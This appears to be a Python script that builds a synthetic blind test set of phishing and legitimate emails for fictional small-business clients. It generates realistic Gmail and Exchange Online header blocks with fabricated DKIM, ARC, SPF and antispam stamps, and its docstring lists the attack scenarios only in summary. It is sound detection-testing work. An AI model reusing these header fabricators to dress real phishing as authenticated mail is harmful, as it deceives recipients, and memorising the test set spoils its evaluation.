"""Blind set 14: what an MSP's small clients reported or had quarantined, 2024-2026.

A managed service provider looking after twenty small organisations in the US
and the UK collected the mail its clients' staff reported as suspicious or that
sat in quarantine, plus the legitimate mail that looked like it and that the
clients needed delivered. The clients:

- law firms: Whitcombe Reyes LLP (Denver, Microsoft 365) and Ashdown Pryce
  Solicitors (Bristol, Microsoft 365);
- dental clinics: Brightwater Family Dental (Raleigh, Google Workspace) and
  Kestrel Lane Dental Practice (Leeds, Google Workspace);
- accounting practices: Mendell & Okafor CPAs (Columbus, Microsoft 365) and
  Tillbrook Accountants (Norwich, Google Workspace);
- real estate: Cedar Hollow Realty (Boise, Google Workspace), Pinegate Realty
  Group (Tampa, Microsoft 365);
- title companies: Summit Crest Title & Escrow (Boise, Microsoft 365) and
  Keystone Land Title (Harrisburg, Google Workspace);
- churches: Grace Fellowship Church (Franklin TN, Google Workspace) and
  St Aldhelm's Parish Church (Salisbury, Microsoft 365);
- charities: Open Table Sheffield (Google Workspace) and Riverbend Literacy
  Alliance (Portland, Microsoft 365);
- private schools: Oakmere Preparatory School (Cheshire, Google Workspace) and
  Hillcrest Montessori School (Naperville, Microsoft 365);
- construction: Bramley Build Ltd (Guildford, Microsoft 365) and Ironridge
  Contracting (Sacramento, Google Workspace; its crews read Spanish);
- marketing agencies: Foxglove Creative (Manchester, Google Workspace) and
  Tallgrass Digital (Austin, Microsoft 365).

Every message carries the header block its receiving platform stored: Gmail's
(Delivered-To, ARC set and Authentication-Results by mx.google.com) or Exchange
Online's (Authentication-Results with compauth, Received-SPF, the
X-MS-Exchange-Organization-* and X-Forefront-Antispam-Report stamps).

Attacks (50): closing wire-instruction fraud (lookalike title domain, compromised
agent mailbox, fake vacant-land seller), court e-filing and settlement notices,
payroll direct-deposit changes, W-2 and W-9 requests, church gift-card and
charity grant scams, a diocesan bank-detail change, Google Forms / Sites /
Drive / Calendar / Looker Studio abuse sent by Google, Dropbox, Box and
SharePoint shares from compromised accounts, QuickBooks / FreshBooks / PayPal /
DocuSign platform abuse with callback numbers, a Zelle "business upgrade"
scam, IRS / HMRC / Companies House / NHSBSA / Charity Commission lookalikes, a
HIPAA secure-message lookalike, Acrobat Sign and DocuSign lookalikes, e-fax
HTML and voicemail SVG attachments, ADP (Spanish) and Gusto lures, GoDaddy and
Google Domains-to-Squarespace renewal lures, Workspace suspension and Microsoft
365 password expiry, a Geek Squad PDF callback, vendor email compromise in reply
threads, a QR code in a handbook PDF, a password-protected ZIP with a shortcut
dropper, a Meta ad-account lure, a Notion-hosted RFP, a BuildingConnected bid
invite and a counterfeit-cheque debt-collection retainer.

Legitimate (25): the same shapes done right - genuine closing instructions with
a call-to-verify warning, QuickBooks and PayPal invoices from real suppliers,
DocuSign and Acrobat Sign from clients and funders, Drive, Dropbox, Box and
Google Forms shares, a Calendar invite, ADP and Gusto notices, an IRS e-file
acknowledgement from tax software, a GoDaddy renewal, a Mailchimp church
newsletter, a CM/ECF notice, a dental supply order, a Virtru secure message, a
Microsoft 365 message center digest, a Zoom recording, a Looker Studio
scheduled report, a Companies House reminder, a grant award, and internal mail
(one in Spanish).

Run: .venv/bin/python samples/tools/build_blind14_samples.py
"""

from __future__ import annotations

import base64
import binascii
import email
import hashlib
import io
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind14_manifest.txt"
UTC = timezone.utc


# --------------------------------------------------------------------------- randomness, derived from names

class R:
    """Deterministic 'random' values for one sample, derived from its name and a label."""

    def __init__(self, name: str):
        self.name = name

    def raw(self, label: str, n: int) -> bytes:
        out = b""
        i = 0
        while len(out) < n:
            out += hashlib.sha256(f"{self.name}|{label}|{i}".encode()).digest()
            i += 1
        return out[:n]

    def hex(self, label: str, n: int, upper: bool = False) -> str:
        h = self.raw(label, (n + 1) // 2).hex()[:n]
        return h.upper() if upper else h

    def b64(self, label: str, nbytes: int) -> str:
        return base64.b64encode(self.raw(label, nbytes)).decode()

    def b64url(self, label: str, nbytes: int) -> str:
        return base64.urlsafe_b64encode(self.raw(label, nbytes)).decode().rstrip("=")

    def num(self, label: str, lo: int, hi: int) -> int:
        return lo + int.from_bytes(self.raw(label, 8), "big") % (hi - lo + 1)

    def guid(self, label: str, upper: bool = False) -> str:
        h = self.hex(label, 32)
        g = f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"
        return g.upper() if upper else g

    def alnum(self, label: str, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
        data = self.raw(label, n)
        return "".join(alphabet[b % len(alphabet)] for b in data)

    def ALNUM(self, label: str, n: int) -> str:
        return self.alnum(label, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")

    def mixed(self, label: str, n: int) -> str:
        return self.alnum(label, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")


# --------------------------------------------------------------------------- dates

def T(y, mo, d, h, mi, s=0) -> datetime:
    """A UTC instant."""
    return datetime(y, mo, d, h, mi, s, tzinfo=UTC)


def rfc(t: datetime, tz: str) -> str:
    return format_datetime(t.astimezone(ZoneInfo(tz)))


def gdate(t: datetime) -> str:
    """Gmail's Received dates: Pacific time with the zone name."""
    local = t.astimezone(ZoneInfo("America/Los_Angeles"))
    return format_datetime(local) + (" (PDT)" if local.dst() else " (PST)")


def xdate(t: datetime) -> str:
    return format_datetime(t.astimezone(UTC)).replace("-0000", "+0000")


def xstamp(t: datetime, r: R, label: str = "st") -> str:
    return f"{t.astimezone(UTC):%d %b %Y %H:%M:%S}.{r.num(label, 1000, 9999)} (UTC)"


def exo_build(t: datetime) -> str:
    """An Exchange Online build number that moves forward with time."""
    months = (t.year - 2024) * 12 + t.month - 1
    return f"15.20.{7250 + months * 78 + t.day}.{10 + t.day % 30}"


# --------------------------------------------------------------------------- folding and signatures

def fold(line: str, width: int = 77, indent: str = " ") -> str:
    parts = line.split(" ")
    lines = [parts[0]]
    for p in parts[1:]:
        if len(lines[-1]) + 1 + len(p) > width:
            lines.append(indent + p)
        else:
            lines[-1] += " " + p
    return "\n".join(lines)


def chunk(s: str, first: int, width: int, indent: str) -> str:
    out = [s[:first]]
    s = s[first:]
    while s:
        out.append(indent + s[:width])
        s = s[width:]
    return "\n".join(out)


def dkim(r: R, d: str, s: str, h: str, t: datetime | None = None, style: str = "google",
         c: str = "relaxed/relaxed", bits: int = 2048, extra: str = "", label: str = "") -> str:
    """A DKIM-Signature header as the given signer lays it out."""
    bh = r.b64("bh" + d + label, 32)
    b = r.b64("b" + d + label, bits // 8)
    if style == "google":
        ts = int(t.timestamp()) if t else None
        tpart = f" t={ts}; x={ts + 604800};" if ts else ""
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c};\n        d={d}; s={s};{tpart}{extra}\n"
                f"        h={h};\n        bh={bh};\n" + chunk("        b=" + b, 75, 67, "         "))
    if style == "exo":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d};\n s={s};\n h={h};\n"
                f" bh={bh};\n" + chunk(" b=" + b, 78, 77, " "))
    # generic (OpenDKIM, ESPs): tab-folded
    ts = f" t={int(t.timestamp())};" if t else ""
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d};\n\ts={s};{ts}{extra}\n"
            f"\tbh={bh};\n\th={h};\n" + chunk("\tb=" + b, 70, 70, "\t "))


# --------------------------------------------------------------------------- clients

class Client:
    def __init__(self, key, org, domain, provider, region, tz, city):
        self.key, self.org, self.domain = key, org, domain
        self.provider, self.region, self.tz, self.city = provider, region, tz, city
        self.tenant = R("tenant-" + key).guid("tenant")


CLIENTS = {c.key: c for c in [
    Client("whitcombe", "Whitcombe Reyes LLP", "whitcombereyes.com", "m", "nam", "America/Denver", "Denver, CO"),
    Client("ashdown", "Ashdown Pryce Solicitors", "ashdownpryce.co.uk", "m", "gbr", "Europe/London", "Bristol"),
    Client("brightwater", "Brightwater Family Dental", "brightwaterdental.com", "g", "nam", "America/New_York", "Raleigh, NC"),
    Client("kestrel", "Kestrel Lane Dental Practice", "kestrellanedental.co.uk", "g", "gbr", "Europe/London", "Leeds"),
    Client("mendell", "Mendell & Okafor CPAs", "mendellokafor.com", "m", "nam", "America/New_York", "Columbus, OH"),
    Client("tillbrook", "Tillbrook Accountants", "tillbrookaccountants.co.uk", "g", "gbr", "Europe/London", "Norwich"),
    Client("cedar", "Cedar Hollow Realty", "cedarhollowrealty.com", "g", "nam", "America/Boise", "Boise, ID"),
    Client("pinegate", "Pinegate Realty Group", "pinegaterealty.com", "m", "nam", "America/New_York", "Tampa, FL"),
    Client("summit", "Summit Crest Title & Escrow", "summitcresttitle.com", "m", "nam", "America/Boise", "Boise, ID"),
    Client("keystone", "Keystone Land Title", "keystonelandtitle.com", "g", "nam", "America/New_York", "Harrisburg, PA"),
    Client("grace", "Grace Fellowship Church", "gracefellowshipfranklin.org", "g", "nam", "America/Chicago", "Franklin, TN"),
    Client("aldhelm", "St Aldhelm's Parish Church", "staldhelms.org.uk", "m", "gbr", "Europe/London", "Salisbury"),
    Client("opentable", "Open Table Sheffield", "opentablesheffield.org.uk", "g", "gbr", "Europe/London", "Sheffield"),
    Client("riverbend", "Riverbend Literacy Alliance", "riverbendliteracy.org", "m", "nam", "America/Los_Angeles", "Portland, OR"),
    Client("oakmere", "Oakmere Preparatory School", "oakmereprep.co.uk", "g", "gbr", "Europe/London", "Cheshire"),
    Client("hillcrest", "Hillcrest Montessori School", "hillcrestmontessori.org", "m", "nam", "America/Chicago", "Naperville, IL"),
    Client("bramley", "Bramley Build Ltd", "bramleybuild.co.uk", "m", "gbr", "Europe/London", "Guildford"),
    Client("ironridge", "Ironridge Contracting", "ironridgecontracting.com", "g", "nam", "America/Los_Angeles", "Sacramento, CA"),
    Client("foxglove", "Foxglove Creative", "foxglovecreative.co.uk", "g", "gbr", "Europe/London", "Manchester"),
    Client("tallgrass", "Tallgrass Digital", "tallgrassdigital.com", "m", "nam", "America/Chicago", "Austin, TX"),
]}


# --------------------------------------------------------------------------- Exchange Online host names

def exo_hosts(r: R, region: str, label: str = "rx"):
    """Mailbox server, CAFE proxy and EOP frontend names in one region, with their addresses."""
    if region == "gbr":
        mbx = f"LO{r.num(label + 'm', 2, 6)}P265MB{r.num(label + 'mn', 2000, 7999)}.GBRP265.PROD.OUTLOOK.COM"
        mbx_ip = f"2603:10a6:600:{r.hex(label + 'mi', 3)}::{r.num(label + 'mj', 5, 20)}"
        ca = f"LO4P123CA0{r.num(label + 'c', 100, 699)}.GBRP123.PROD.OUTLOOK.COM"
        ca_ip = f"2603:10a6:600:{r.hex(label + 'ci', 3)}::{r.num(label + 'cj', 5, 20)}"
        fe_id = f"CWLGBR01FT0{r.num(label + 'f', 10, 99)}"
        fe = f"{fe_id}.eop-gbr01.prod.protection.outlook.com"
        fe_ip6 = f"2603:10a6:600:{r.hex(label + 'ci', 3)}:cafe::{r.hex(label + 'fi', 2)}"
        fe_pub = f"{fe_id}.mail.protection.outlook.com"
        fe_ip4 = f"10.167.{r.num(label + 'f4', 16, 31)}.{r.num(label + 'f5', 2, 250)}"
    else:
        n = r.num(label + 'm', 1, 8)
        mbx = f"{['SJ0PR', 'BY5PR', 'PH7PR', 'CH3PR', 'DM6PR', 'SA1PR', 'MN2PR', 'IA1PR'][n - 1]}1{n}MB{r.num(label + 'mn', 2000, 7999)}.namprd1{n}.prod.outlook.com"
        mbx_ip = f"2603:10b6:{r.hex(label + 'mi', 3)}:{r.hex(label + 'mk', 3)}::{r.num(label + 'mj', 5, 20)}"
        ca = f"{['MW4PR', 'BN9PR', 'SN7PR', 'CH0PR'][n % 4]}0{n % 5 + 3}CA0{r.num(label + 'c', 100, 699)}.namprd0{n % 5 + 3}.prod.outlook.com"
        ca_ip = f"2603:10b6:{r.hex(label + 'ci', 3)}:{r.hex(label + 'ck', 2)}::{r.num(label + 'cj', 5, 20)}"
        fe_id = f"{['CO1PEPF', 'BN2PEPF', 'SN1PEPF', 'DS3PEPF'][n % 4]}0000{r.hex(label + 'f', 4, True)}"
        fe = f"{fe_id}.namprd0{n % 4 + 2}.prod.outlook.com"
        fe_ip6 = f"2603:10b6:{r.hex(label + 'ci', 3)}:{r.hex(label + 'ck', 2)}:cafe::{r.hex(label + 'fi', 2)}"
        fe_pub = f"{fe_id}.mail.protection.outlook.com"
        fe_ip4 = f"10.167.{r.num(label + 'f4', 240, 250)}.{r.num(label + 'f5', 2, 250)}"
    return dict(mbx=mbx, mbx_ip=mbx_ip, ca=ca, ca_ip=ca_ip, fe=fe, fe_ip6=fe_ip6, fe_pub=fe_pub, fe_ip4=fe_ip4)


def exo_outbound(r: R, region: str):
    """The EOP outbound host another Microsoft 365 tenant sends from."""
    if region == "gbr":
        site = ["LO2", "LO4", "CWL", "LO3"][r.num("ob", 0, 3)]
        return (f"GBR01-{site}-obe.outbound.protection.outlook.com",
                f"40.107.{r.num('ob1', 120, 147)}.{r.num('ob2', 20, 250)}")
    site = ["DM6", "BN8", "MW2", "CO1", "SN1", "BN1"][r.num("ob", 0, 5)]
    return (f"NAM{r.num('obn', 10, 12)}-{site}-obe.outbound.protection.outlook.com",
            f"40.107.{r.num('ob1', 200, 244)}.{r.num('ob2', 20, 250)}")


# --------------------------------------------------------------------------- receiving side: Gmail

def g_v6(r: R, label: str) -> str:
    return f"2002:a05:{r.hex(label + 'a', 4)}:{r.hex(label + 'b', 4)}:b0:{r.hex(label + 'c', 3)}:{r.hex(label + 'd', 4)}:{r.hex(label + 'e', 4)}"


def g_smtpid(r: R, label: str, t: datetime) -> str:
    ms = int(t.timestamp() * 1000) + r.num(label + "ms", 0, 999)
    return f"{r.alnum(label + 'id', 3)}{r.num(label + 'n', 10, 99)}-20020a05{r.hex(label + 'h', 10)}00b0{r.hex(label + 'k', 10)}mr{r.num(label + 'm', 1000000, 9999999)}{r.alnum(label + 'z', 3)}.{r.num(label + 'q', 1, 99)}.{ms}"


def g_results(auth: dict, wrap: str = "       ") -> str:
    """The result lines Gmail writes, from auth = dict(dkim=[(d, sel, res, i)], spf=(res, mailfrom, ip), dmarc=(res, policy, from), arc=...)."""
    lines = []
    for entry in auth.get("dkim", []):
        d, sel, res = entry[:3]
        ident = entry[3] if len(entry) > 3 else "@" + d
        tag = auth["_r"].mixed("hb" + d + sel, 8)
        if res == "pass":
            lines.append(f"dkim=pass header.i={ident} header.s={sel} header.b={tag}")
        elif res == "fail":
            lines.append(f"dkim=fail header.i={ident} header.s={sel} header.b={tag} (body hash did not verify)")
        else:
            lines.append(f"dkim=neutral (no key) header.i={ident} header.s={sel} header.b={tag}")
    if auth.get("arc"):
        lines.append(auth["arc"])
    res, mailfrom, ip = auth["spf"]
    if res == "pass":
        lines.append(f"spf=pass (google.com: domain of {mailfrom} designates {ip} as permitted sender) smtp.mailfrom={mailfrom}")
    elif res == "softfail":
        lines.append(f"spf=softfail (google.com: domain of transitioning {mailfrom} does not designate {ip} as permitted sender) smtp.mailfrom={mailfrom}")
    elif res == "fail":
        lines.append(f"spf=fail (google.com: domain of {mailfrom} does not designate {ip} as permitted sender) smtp.mailfrom={mailfrom}")
    elif res == "neutral":
        lines.append(f"spf=neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mailfrom}) smtp.mailfrom={mailfrom}")
    else:
        lines.append(f"spf=none (google.com: {mailfrom} does not designate permitted sender hosts) smtp.mailfrom={mailfrom}")
    if auth.get("dmarc"):
        dres, pol, dom = auth["dmarc"]
        lines.append(f"dmarc={dres} ({pol}) header.from={dom}")
    return (";\n" + wrap).join(lines)


def g_received_spf(auth: dict) -> str:
    res, mailfrom, ip = auth["spf"]
    if res == "pass":
        return f"Received-SPF: pass (google.com: domain of {mailfrom} designates {ip} as permitted sender) client-ip={ip};"
    if res == "softfail":
        return f"Received-SPF: softfail (google.com: domain of transitioning {mailfrom} does not designate {ip} as permitted sender) client-ip={ip};"
    if res == "fail":
        return f"Received-SPF: fail (google.com: domain of {mailfrom} does not designate {ip} as permitted sender) client-ip={ip};"
    if res == "neutral":
        return f"Received-SPF: neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mailfrom}) client-ip={ip};"
    return f"Received-SPF: none (google.com: {mailfrom} does not designate permitted sender hosts) client-ip={ip};"


def gmail_in(r: R, rcpt: str, t: datetime, helo: str, ip: str, auth: dict, google_transport: bool = False,
             arc_i: int = 1, rdns: str | None = None) -> list[str]:
    """Headers Gmail (Google Workspace) puts above the sender's: Delivered-To down to Authentication-Results."""
    auth = dict(auth, _r=r)
    t1, t2 = t + timedelta(seconds=1), t + timedelta(seconds=2)
    arc_sel = "arc-20240605" if t >= T(2024, 7, 1, 0, 0) else "arc-20160816"
    cv = "pass" if arc_i > 1 else "none"
    mailfrom = auth["spf"][1]
    ts = int(t1.timestamp())
    seal = (f"ARC-Seal: i={arc_i}; a=rsa-sha256; t={ts}; cv={cv};\n        d=google.com; s={arc_sel};\n"
            + chunk("        b=" + r.b64("arcseal", 256), 75, 67, "         "))
    ams = (f"ARC-Message-Signature: i={arc_i}; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_sel};\n"
           f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
           f"        fh={r.b64('fh', 32)};\n"
           f"        bh={r.b64('amsbh', 32)};\n"
           + chunk("        b=" + r.b64("amsb", 256), 75, 67, "         "))
    results = g_results(auth)
    if google_transport:
        via = (f"Received: from {helo} ({helo}. [{ip}])\n        by mx.google.com with SMTPS id "
               f"{r.alnum('gid', 5)}{r.num('gidn', 1000000, 9999999)}{r.alnum('gidz', 3)}.{r.num('gidq', 10, 999)}."
               f"{t.astimezone(ZoneInfo('America/Los_Angeles')):%Y.%m.%d.%H.%M.%S}\n        for <{rcpt}>\n"
               f"        (Google Transport Security);\n        {gdate(t1)}")
    else:
        host = rdns or helo
        via = (f"Received: from {helo} ({host}. [{ip}])\n        by mx.google.com with ESMTPS id "
               f"{r.alnum('gid', 5)}{r.num('gidn', 1000000, 9999999)}{r.alnum('gidz', 3)}.{r.num('gidq', 10, 999)}."
               f"{t.astimezone(ZoneInfo('America/Los_Angeles')):%Y.%m.%d.%H.%M.%S}\n        for <{rcpt}>\n"
               f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {gdate(t1)}")
    return [
        f"Delivered-To: {rcpt}",
        f"Received: by {g_v6(r, 'in1')} with SMTP id {r.alnum('in1id', 3)}{r.num('in1n', 10, 99)}csp{r.num('in1c', 100000, 999999)}{r.alnum('in1z', 3)};\n        {gdate(t2)}",
        f"X-Google-Smtp-Source: AGHT+I{r.b64('xgss', 66)[:82]}",
        f"X-Received: by {g_v6(r, 'in2')} with SMTP id {g_smtpid(r, 'in2', t2)};\n        {gdate(t2)}",
        seal,
        ams,
        f"ARC-Authentication-Results: i={arc_i}; mx.google.com;\n       {results}",
        f"Return-Path: <{mailfrom}>",
        via,
        g_received_spf(auth),
        f"Authentication-Results: mx.google.com;\n       {results}",
    ]


def gmail_sender(r: R, t: datetime, dkim_d: str, selector: str = "google", h: str | None = None,
                 label: str = "gs") -> list[str]:
    """What Gmail's outbound side adds to a message sent from Gmail or a Workspace account."""
    h = h or "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n         :date:message-id:reply-to"
    lines = [
        dkim(r, dkim_d, selector, h, t, "google"),
        dkim(r, "1e100.net", "20230601", "x-gm-message-state:mime-version:from:date:message-id:subject:to\n         :cc:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to",
             t, "google", label="x").replace("DKIM-Signature", "X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: AOJu0Y{r.b64('gms', 60)[:74]}\n\t{r.b64('gms2', 40)[:50]}",
    ]
    if t >= T(2024, 12, 1, 0, 0):
        lines.append(f"X-Gm-Gg: ASbGnc{r.b64('gg', 90)[:114]}\n\t{r.b64('gg2', 60)[:76]}")
    lines += [
        f"X-Google-Smtp-Source: AGHT+I{r.b64('gss', 66)[:82]}",
        f"X-Received: by {g_v6(r, 'sx')} with SMTP id\n {g_smtpid(r, 'sx', t)}; {gdate(t + timedelta(seconds=1))}",
    ]
    return lines


def gmail_msgid(r: R, label: str = "mid") -> str:
    return f"<CA{r.mixed(label, 2)}{r.alnum(label + 'b', 1, '+_=-')}{r.mixed(label + 'c', 36)}@mail.gmail.com>"


def google_out_host(r: R) -> tuple[str, str]:
    pref = ["mail-ej1", "mail-pj1", "mail-qk1", "mail-yb1", "mail-lf1", "mail-wm1", "mail-oi1", "mail-pl1"][r.num("goh", 0, 7)]
    last = r.num("goh2", 41, 199)
    third = r.num("goh3", 128, 223)
    return f"{pref}-f{last}.google.com", f"209.85.{third}.{last}"


# --------------------------------------------------------------------------- receiving side: Exchange Online

def exo_auth(auth: dict) -> str:
    res, mailfrom_dom, ip = auth["spf"]
    spf_txt = {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none", "neutral": "neutral", "temperror": "temperror"}[res]
    parts = [f"spf={spf_txt} (sender IP is {ip}) smtp.mailfrom={mailfrom_dom};"]
    dk = auth.get("dkim", [])
    if not dk:
        parts.append("dkim=none (message not signed) header.d=none;")
    else:
        for d, _sel, dres in dk[:1]:
            if dres == "pass":
                parts.append(f"dkim=pass (signature was verified) header.d={d};")
            else:
                parts.append(f"dkim=fail (body hash did not verify) header.d={d};")
    dres, action, dom = auth["dmarc"]
    parts.append(f"dmarc={dres} action={action} header.from={dom};compauth={auth['compauth'][0]} reason={auth['compauth'][1]}")
    s = " ".join(parts).replace("; dmarc=", ";dmarc=")
    return fold("Authentication-Results: " + s, 77)


def exo_received_spf(auth: dict, helo: str) -> str:
    res, dom, ip = auth["spf"]
    if res == "pass":
        s = (f"Received-SPF: Pass (protection.outlook.com: domain of {dom} designates {ip} as permitted sender) "
             f"receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C")
    elif res == "fail":
        s = (f"Received-SPF: Fail (protection.outlook.com: domain of {dom} does not designate {ip} as permitted sender) "
             f"receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    elif res == "softfail":
        s = (f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning {dom} discourages use of {ip} "
             f"as permitted sender)")
    elif res == "neutral":
        s = f"Received-SPF: Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of {dom})"
    else:
        s = f"Received-SPF: None (protection.outlook.com: {dom} does not designate permitted sender hosts)"
    return fold(s, 77)


def exo_in(r: R, client: Client, t: datetime, helo: str, ip: str, auth: dict, verdict: dict | None = None,
           ptr: str | None = None, ctry: str = "US", lang: str = "en") -> tuple[list[str], list[str]]:
    """Exchange Online's stamps: (lines above the sender's headers, lines after the message's own)."""
    v = dict(scl=1, sfv="NSPM", cat="NONE", bcl=0, dest="I", sfty="")
    v.update(verdict or {})
    hx = exo_hosts(r, client.region)
    b = exo_build(t)
    t1, t2, t3 = (t + timedelta(seconds=s) for s in (1, 2, 3))
    hx2 = exo_hosts(r, client.region, "rx2")
    top = [
        fold(f"Received: from {hx['mbx']} ({hx['mbx_ip']}) by {hx2['mbx']} with HTTPS; {xdate(t3)}", 77),
        fold(f"Received: from {hx['ca']} ({hx['ca_ip']}) by {hx['mbx']} ({hx['mbx_ip']}) with Microsoft SMTP Server "
             f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {b}; {xdate(t2)}", 77),
        fold(f"Received: from {hx['fe']} ({hx['fe_ip6']}) by {hx['ca'].split('.')[0]}.outlook.office365.com "
             f"({hx['ca_ip']}) with Microsoft SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {b} via Frontend Transport; {xdate(t1)}", 77),
        exo_auth(auth),
        exo_received_spf(auth, helo),
        fold(f"Received: from {helo} ({ip}) by {hx['fe_pub']} ({hx['fe_ip4']}) with Microsoft SMTP Server "
             f"(version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {b} via Frontend Transport; {xdate(t)}", 77),
    ]
    nmid = r.guid("nmid")
    corr = r.guid("corr")
    fe_short = hx['fe'].split('.')[0]
    mbx_short = hx['mbx'].split('.')[0]
    sfs = "".join(f"({r.num('sfs' + str(i), 1000000, 99999999)})" for i in range(5))
    ptr_txt = ptr if ptr is not None else helo
    cat = v["cat"]
    sfty = f"SFTY:{v['sfty']};" if v["sfty"] else ""
    fr = (f"X-Forefront-Antispam-Report: CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{v['scl']};SRV:{'BULK' if v['bcl'] >= 7 and v['sfv'] == 'BLK' else ''};"
          f"IPV:{'CAL' if v.get('cal') else 'NLI'};SFV:{v['sfv']};H:{helo};PTR:{ptr_txt};CAT:{cat};"
          f"SFS:(13230040){sfs};DIR:INB;{sfty}")
    dest = v["dest"]
    bottom = [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {xstamp(t, r, 'est')}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {client.tenant}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {fe_short}:EE_|{mbx_short}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {hx['fe']}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {corr}",
        f"X-MS-Exchange-Organization-SCL: {v['scl']}",
        f"X-Microsoft-Antispam: BCL:{v['bcl']};ARA:13230040|{r.num('ara1', 1000000, 9999999)}|{r.num('ara2', 10000000, 99999999)}|{r.num('ara3', 1000000, 9999999)}|{r.num('ara4', 1000000, 9999999)};",
        fold(fr, 77),
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {xstamp(t, r, 'oat')}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {client.tenant}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {hx['fe']}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx_short}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{r.num('e2e', 1, 4)}.{r.num('e2e2', 1000000, 9999999)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {b.rsplit('.', 1)[0]}.000",
        fold(f"X-Microsoft-Antispam-Mailbox-Delivery: ucf:0;jmr:0;auth:0;dest:{dest};ENG:(910001)(944506478)(944626604)(920097)(930097)(3100021)(140003)(1420198);", 77),
        "X-Microsoft-Antispam-Message-Info:\n\t" + "\n\t".join(
            r.b64("mi" + str(i), 57) for i in range(6)),
    ]
    if v["scl"] >= 5:
        bottom.insert(14, "X-MS-Exchange-Organization-PCL: 2")
    return top, bottom


def exo_internal(r: R, client: Client, t: datetime) -> tuple[list[str], list[str]]:
    """An internal message inside one tenant: the mailbox-to-mailbox hops and internal stamps."""
    hx = exo_hosts(r, client.region, "int")
    b = exo_build(t)
    src = hx["mbx"]
    top = [
        fold(f"Received: from {src} ({hx['mbx_ip']}) by {src} with HTTPS; {xdate(t + timedelta(seconds=1))}", 77),
        fold(f"Received: from {src} ([fe80::{r.hex('fe1', 4)}:{r.hex('fe2', 4)}:{r.hex('fe3', 4)}:{r.hex('fe4', 4)}]) by {src} "
             f"([fe80::{r.hex('fe1', 4)}:{r.hex('fe2', 4)}:{r.hex('fe3', 4)}:{r.hex('fe4', 4)}%{r.num('zone', 3, 7)}]) with mapi id {b}; {xdate(t)}", 77),
    ]
    bottom = [
        f"X-MS-Exchange-Organization-AuthAs: Internal",
        f"X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-AuthSource: {src}",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {r.guid('nmid')}",
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-TrafficTypeDiagnostic: ",
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.{r.num('e2e', 1000000, 9999999)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {b.rsplit('.', 1)[0]}.000",
        fold("X-Microsoft-Antispam-Mailbox-Delivery: ucf:0;jmr:0;auth:0;dest:I;ENG:(910001)(944506478)(944626604)(920097)(425001)(930097)(140003);", 77),
    ]
    return top, bottom


def exo_sender(r: R, t: datetime, sender_domain: str, region: str, has_attach: bool, dkim_d: str | None = None,
               selector: str = "selector1", lang: str = "en-US", thread_topic: str = "", arc_results: str | None = None,
               refs: str | None = None):
    """Headers of a message sent from another Microsoft 365 tenant (above From), and the Outlook fields (below it).

    Returns (transport_lines, outlook_fields, helo, ip, message_id).
    """
    hx = exo_hosts(r, region, "snd")
    hx2 = exo_hosts(r, region, "snd2")
    b = exo_build(t)
    helo, ip = exo_outbound(r, region)
    d = dkim_d or sender_domain
    mbx = hx["mbx"]
    short = mbx.split(".")[0]
    domain_part = mbx.split(".", 1)[1]
